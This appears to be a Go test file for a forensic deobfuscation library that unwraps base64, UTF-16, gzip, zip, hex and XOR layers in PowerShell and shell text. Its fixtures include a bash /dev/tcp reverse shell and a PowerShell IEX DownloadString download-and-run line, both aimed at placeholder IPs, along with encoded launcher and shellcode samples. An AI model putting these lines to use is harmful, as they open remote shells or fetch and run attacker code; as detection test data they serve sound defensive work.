package unwrap

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"forensic/analyzers/internal/unwrap/powershell"
)

func utf16le(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

func b64(data []byte) string { return base64.StdEncoding.EncodeToString(data) }

func gz(data []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Write(data)
	w.Close()
	return buf.Bytes()
}

func deflate(data []byte) []byte {
	var buf bytes.Buffer
	w, _ := flate.NewWriter(&buf, 9)
	w.Write(data)
	w.Close()
	return buf.Bytes()
}

func zipped(members ...string) []byte {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for i := 0; i < len(members); i += 2 {
		f, _ := w.Create(members[i])
		f.Write([]byte(members[i+1]))
	}
	w.Close()
	return buf.Bytes()
}

// broken breaks a text into lines of 64 characters.
func broken(s string) (out string) {
	for len(s) > 64 {
		out, s = out+s[:64]+"\r\n", s[64:]
	}
	return out + s + "\r\n"
}

// numbers writes bytes as PowerShell lists them.
func numbers(data []byte) string {
	out := make([]string, len(data))
	for i, c := range data {
		out[i] = fmt.Sprintf("0x%02x", c)
	}
	return strings.Join(out, ",")
}

// innermost decodes every run of a text and returns the innermost texts.
func innermost(text string) (out []string) {
	for _, r := range Find(text, Defaults) {
		tree := Decode(r, text, Defaults)
		for _, i := range tree.Innermost() {
			l := tree.Layers[i]
			if l.IsText() {
				out = append(out, l.Text)
			} else {
				out = append(out, "<"+l.Kind+">")
			}
		}
	}
	return out
}

func TestInnermost(t *testing.T) {
	const secret = "Invoke-Something -Address http://203.0.113.9/a"
	launcher := "$s=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + b64(utf16le("http://203.0.113.9")) + "')); go $s"
	nested := "text worth hiding, thirty characters and more"
	for range 5 {
		nested = "some words before " + b64([]byte(nested))
	}
	pe := append([]byte("MZ"), make([]byte, 126)...)
	pe[60] = 80
	copy(pe[80:], "PE\x00\x00")
	shellcode := append([]byte{0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8}, make([]byte, 90)...)
	tests := map[string]struct {
		text string
		want []string
	}{
		"powershell argument":        {"powershell.exe -noP -sta -w 1 -enc  " + b64(utf16le(secret)), []string{secret}},
		"two layers to the address":  {"powershell -e " + b64(utf16le(launcher)), []string{"http://203.0.113.9"}},
		"padding lost":               {"powershell -enc " + strings.TrimRight(b64(utf16le(secret+"xy")), "="), []string{secret + "xy"}},
		"deflate":                    {"IO.Compression.DeflateStream([Convert]::FromBase64String('" + b64(deflate([]byte(strings.Repeat(secret, 3)))) + "'))", []string{strings.Repeat(secret, 3)}},
		"gzip of base64 of text":     {"x " + b64(gz([]byte("begin "+b64([]byte(secret))))), []string{secret}},
		"zip with two members":       {b64(zipped("a.txt", "first member", "b.txt", "second member")), []string{"first member", "second member"}},
		"bash brace expansion":       {"bash -c {echo," + b64([]byte("bash -i >& /dev/tcp/192.0.2.6/443 0>&1")) + "}|{base64,-d}|{bash,-i}", []string{"bash -i >& /dev/tcp/192.0.2.6/443 0>&1"}},
		"short but hinted":           {"[Convert]::FromBase64String('aGkgdGhlcmUsIHlvdQ==')", []string{"hi there, you"}},
		"five times":                 {nested, []string{"text worth hiding, thirty characters and more"}},
		"executable":                 {"$a = '" + b64(pe) + "'", []string{"<pe>"}},
		"hinted bytes":               {"FromBase64String('" + b64([]byte{0xff, 0x00, 0x91, 0xfe, 0x12, 0xc3, 0x7f, 0x80, 0x01, 0x99, 0xe0, 0x12}) + "')", []string{"<binary>"}},
		"lines of a mail":            {"-----BEGIN-----\r\n" + broken(b64([]byte(secret+" and "+secret))) + "-----END-----\r\n", []string{secret + " and " + secret}},
		"URL-safe alphabet":          {base64.RawURLEncoding.EncodeToString([]byte("subjects?_d=~~~>>>???~~~ to be told apart")), []string{"subjects?_d=~~~>>>???~~~ to be told apart"}},
		"hex":                        {"x=0x" + hex.EncodeToString([]byte(secret)), []string{secret}},
		"xor, key in the text":       {"$b=[Convert]::FromBase64String('" + b64(powershell.XORed([]byte(secret), 0x23)) + "');for($i=0;$i -lt $b.Count;$i++){$b[$i]=$b[$i] -bxor 35}", []string{secret}},
		"xor, key elsewhere":         {"$b=[Convert]::FromBase64String('" + b64(powershell.XORed([]byte(secret), 0x77)) + "')|%{$_ -bxor $k}", []string{secret}},
		"xor, key in a variable":     {"$k = 0x51\n$b=[Convert]::FromBase64String('" + b64(powershell.XORed(pe, 0x51)) + "')|%{$_ -bxor $k}", []string{"<pe>"}},
		"xor of a variable":          {"$c='" + b64(powershell.XORed(shellcode, 35)) + "';$b=[Convert]::FromBase64String($c);$b[$i] = $b[$i] -bxor 35", []string{"<shellcode>"}},
		"no xor in the text":         {"token='" + b64(powershell.XORed([]byte(secret), 0x91)) + "'", nil},
		"bytes as numbers":           {"[Byte[]] $b = " + numbers(shellcode), []string{"<shellcode>"}},
		"put together, then base64":  {"&('I'+'E'+'X')([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + b64([]byte(secret))[:20] + "'+'" + b64([]byte(secret))[20:] + "')))", []string{secret[:15], secret[15:], secret}},
		"two layers of pieces":       {"iex(-join(" + numbers([]byte("&('In'+'vo'+'ke-Th'+'ing') now")) + "|%{[char]$_}))", []string{"&('Invoke-Thing') now"}},
		"zip in a zip in gzip":       {b64(gz(zipped("in.zip", string(zipped("a.txt", "the first member"))))), []string{"the first member"}},
		"pdf":                        {b64([]byte("%PDF-1.4 with what follows")), []string{"<pdf>"}},
		"a path":                     {`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe /usr/lib/systemd/systemd/journald/with/long/path/names`, nil},
		"hashes":                     {"SHA256=A75C85F3B089993E9C042FB82ECB7757E8F460ED8065FC7991CAA38A6DE0F50C,IMPHASH=CC058866636CC184AD452F88EE39368A", nil},
		"letters":                    {"CreateToolhelp32SnapshotInformationProviderFactory aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", nil},
		"guid and words with dashes": {"{d273d0f0-cc0b-5f67-0708-000000000800} Microsoft-Windows-Sysmon-Operational-Channel-With-Dashes", nil},
		"nothing":                    {"", nil},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, innermost(tt.text)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestChainAndHashes(t *testing.T) {
	runs := Find("powershell -enc "+b64(utf16le("see "+b64([]byte("plain text of some length")))), Defaults)
	tree := Decode(runs[0], "", Defaults)
	if got := tree.Chain(1); got != "base64 > utf-16le > base64 > utf-8" {
		t.Errorf("chain %q", got)
	}
	if l := tree.Layers[1]; len(l.MD5) != 32 || l.Depth != 2 || l.Parent != 0 || l.Offset != 4 || l.Size != 25 {
		t.Errorf("layer %+v", l)
	}
}

func TestLimits(t *testing.T) {
	bomb := b64(gz(make([]byte, 40<<20)))
	tree := Decode(Run{Text: bomb, Hint: Strong}, "", Defaults)
	if !strings.Contains(tree.Limit, "unfolds") {
		t.Errorf("a bomb inflates to %d layers without a limit", len(tree.Layers))
	}
	nested := []byte("the text at the bottom of it all")
	for range 40 {
		nested = gz(nested)
	}
	if tree = Decode(Run{Text: b64(nested), Hint: Strong}, "", Defaults); !strings.Contains(tree.Limit, "nested deeper") {
		t.Errorf("40 layers of gzip: limit %q, %d layers", tree.Limit, len(tree.Layers))
	}
	many := strings.Repeat(b64([]byte("one of very many small texts"))+" ", 1000)
	if tree = Decode(Run{Text: b64([]byte(many)), Hint: Strong}, "", Defaults); !strings.Contains(tree.Limit, "layers") {
		t.Errorf("a thousand runs: limit %q, %d layers", tree.Limit, len(tree.Layers))
	}
}

func FuzzDecode(f *testing.F) {
	f.Add("powershell -enc " + b64(utf16le("some text")))
	f.Add(b64(zipped("a", "b")))
	f.Add("iex(-join(1,2,3|%{[char]($_ -bxor 0x20)})) FromBase64String('" + b64([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}) + "') -bxor $k")
	f.Add(hex.EncodeToString([]byte("a text in hex digits")))
	f.Add(b64(gz([]byte("text"))))
	lim := Defaults
	lim.MaxBytes, lim.MaxLayers = 1<<18, 32
	f.Fuzz(func(t *testing.T, text string) {
		for _, r := range Find(text, lim) {
			if r.Offset < 0 || r.Offset >= len(text) {
				t.Fatalf("offset %d of %d", r.Offset, len(text))
			}
			tree := Decode(r, text, lim)
			if len(tree.Layers) > lim.MaxLayers {
				t.Fatalf("%d layers", len(tree.Layers))
			}
			for i, l := range tree.Layers {
				if l.Parent >= i || l.Size > lim.MaxBytes {
					t.Fatalf("layer %d: parent %d, %d bytes", i, l.Parent, l.Size)
				}
			}
		}
	})
}

func BenchmarkFind(b *testing.B) {
	text := strings.Repeat(`"C:\Windows\System32\svchost.exe" -k netsvcs -p -s Schedule --type=utility --lang=en-US `, 100)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		Find(text, Defaults)
	}
}

// TestNesting reaches the plain text however often it was encoded and whatever
// stands before it. MSTICPy stops half-way in most of these cases, because it
// goes on searching at the wrong place.
func TestNesting(t *testing.T) {
	for _, plain := range []string{"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/ab')", strings.Repeat("x", 30) + " y"} {
		for times := 1; times <= 5; times++ {
			for _, before := range []int{0, 4, 35, 69} {
				text := plain
				for range times {
					text = strings.Repeat("- ", 35)[:before] + b64([]byte(text))
				}
				if diff := cmp.Diff([]string{plain}, innermost(text)); diff != "" {
					t.Errorf("%d times, %d characters before: %s", times, before, diff)
				}
			}
		}
	}
}

func TestForms(t *testing.T) {
	for text, want := range map[string]string{
		"$a = New-Object Net.WebClient":                               "PowerShell script",
		"#!/bin/bash\necho hello":                                     "shell script",
		"bash -i >& /dev/tcp/192.0.2.6/443 0>&1":                      "shell script",
		"@echo off\r\ndel x.txt":                                      "batch file",
		"Set o = CreateObject(\"WScript.Shell\")":                     "VBScript",
		"var s = new ActiveXObject('WScript.Shell');":                 "JScript",
		"import socket\ns = socket.socket()":                          "Python script",
		"<?xml version=\"1.0\"?><a/>":                                 "XML",
		"{\"a\": 1}":                                                  "JSON",
		"http://203.0.113.9/":                                         "address",
		"just some words of no kind":                                  "",
		string(zipped("[Content_Types].xml", "x", "word/d.xml", "y")): "Word document",
	} {
		kind, plain := classify([]byte(text))
		l := Layer{Kind: kind, Text: plain, form: binaryForm(kind, []byte(text))}
		if got := l.Form(); got != want {
			t.Errorf("%.40q is %q, want %q", text, got, want)
		}
	}
}
